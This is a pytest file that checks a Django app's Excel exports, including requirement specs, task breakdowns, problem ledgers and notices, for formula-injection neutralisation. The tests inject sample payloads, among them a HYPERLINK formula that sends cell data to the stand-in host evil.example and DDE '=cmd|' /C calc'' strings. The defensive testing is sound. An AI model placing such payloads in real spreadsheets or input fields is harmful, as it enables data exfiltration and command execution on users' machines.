"""Text people typed that a spreadsheet would read as a formula (=HYPERLINK(…), =cmd|…, +…, -…, @…, a leading
tab or carriage return) leaves every Excel export as text, exactly as typed, with Excel's quote prefix: the
five exports of issue 23 each reopened with openpyxl, and every other export goes through the same writer."""

import io
import re
from pathlib import Path

from openpyxl import load_workbook

from xietong.lighter.models import CustomerRequirement, SyncRow
from xietong.lighter.tests.test_lighter import add_row
from xietong.lighter.tests.test_lighter import requirement as requirement  # the fixture
from xietong.notices.models import Notice
from xietong.notices.tests.test_notices import publish
from xietong.problems.models import Problem
from xietong.problems.tests.test_problem_flow import dispatch, file_problem
from xietong.requests.models import Request
from xietong.requests.tests.test_request_flow import _published_task
from xietong.tasks.models import Task

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")'
DDE = "=cmd|' /C calc'!A0"
PLUS = "+86 138 0013 8000 转 =1+1"
MINUS = "-2+3 天（延期）"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
TAB = "\t=1+1"
CR = "\r=2+2"


def formula_like_cells(content: bytes) -> dict[str, tuple[str, bool]]:
    """Every cell whose text starts like a formula: coordinate → (value, quote-prefixed); and no cell is a formula."""
    workbook = load_workbook(io.BytesIO(content))
    found = {}
    for ws in workbook.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a live formula: {cell.value!r}"
                if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@", "\t", "\r", "\n")):
                    assert cell.data_type == "s"
                    found[f"{ws.title}!{cell.coordinate}"] = (cell.value, bool(cell.quotePrefix))
    return found


def download(client, url: str) -> bytes:
    response = client.get(url)
    assert response.status_code == 200, url
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    return response.content


def test_requirement_specification(company, client_for):
    request, _breakdown, _task = _published_task(company)
    Request.objects.filter(pk=request.pk).update(title=HYPERLINK, background=DDE, goal=PLUS, content=AT)
    cells = formula_like_cells(download(client_for("guoxin"), f"/reports/requests/{request.pk}/spec.xlsx"))
    assert cells == {
        "需求说明书!B3": (HYPERLINK, True),
        "需求说明书!B8": (DDE, True),
        "需求说明书!B9": (PLUS, True),
        "需求说明书!B10": (AT, True),
    }


def test_task_breakdown(company, client_for):
    request, _breakdown, task = _published_task(company)
    Task.objects.filter(pk=task.pk).update(title=DDE, content=MINUS, completion_criteria=AT, resources=TAB)
    cells = formula_like_cells(download(client_for("guoxin"), f"/tasks/breakdown/{request.pk}/export.xlsx"))
    assert cells == {
        "协作任务分解表!B4": (DDE, True),
        "协作任务分解表!C4": (MINUS, True),
        "协作任务分解表!D4": (AT, True),
        "协作任务分解表!K4": (TAB, True),
    }


def test_problem_ledger(company, client_for):
    problem = dispatch(company, file_problem(company))
    Problem.objects.filter(pk=problem.pk).update(title=AT)
    cells = formula_like_cells(download(client_for("liufang"), "/problems/ledger.xlsx"))
    assert cells == {"问题处理台账!C4": (AT, True)}


def test_customer_sync_table(company, client_for, requirement):
    add_row(company, requirement, "2026-05-15 17:00")
    CustomerRequirement.objects.filter(pk=requirement.pk).update(customer=HYPERLINK)
    SyncRow.objects.update(stage=DDE, progress=MINUS, next_step=PLUS, risk=AT, response="")
    cells = formula_like_cells(download(client_for("tangwen"), f"/lighter/customers/{requirement.pk}/export.xlsx"))
    # The customer's name sits inside "客户：…", which is no formula; the row's own cells are.
    assert cells == {
        "客户需求沟通进度同步表!B4": (DDE, True),
        "客户需求沟通进度同步表!C4": (MINUS, True),
        "客户需求沟通进度同步表!E4": (PLUS, True),
        "客户需求沟通进度同步表!F4": (AT, True),
    }


def test_notice_confirmation_sheet(company, client_for):
    notice = publish(company, people=(), departments=("rd-qa",))
    Notice.objects.filter(pk=notice.pk).update(title=HYPERLINK)
    cells = formula_like_cells(download(client_for("liufang"), f"/notices/{notice.pk}/export.xlsx"))
    recipients = notice.receipts.count()
    assert recipients > 0
    assert cells == {f"通知确认单!A{row}": (HYPERLINK, True) for row in range(4, 4 + recipients)}


def test_a_carriage_return_at_the_start_is_kept_as_text(company, client_for):
    request, _breakdown, _task = _published_task(company)
    Request.objects.filter(pk=request.pk).update(background=CR)
    cells = formula_like_cells(download(client_for("guoxin"), f"/reports/requests/{request.pk}/spec.xlsx"))
    # XML reads a bare carriage return back as a line feed; what matters is that it stays text, not a formula.
    assert cells == {"需求说明书!B8": ("\n=2+2", True)}


def test_every_workbook_is_written_through_the_one_writer():
    """A new export that saved its workbook itself would skip the neutralisation: none does."""
    root = Path(__file__).resolve().parent.parent / "xietong"
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if "tests" not in path.parts
        and path.name != "spreadsheets.py"
        and re.search(r"\bwb\.save\(|\.save\(buffer\)|workbook\.save\(", path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
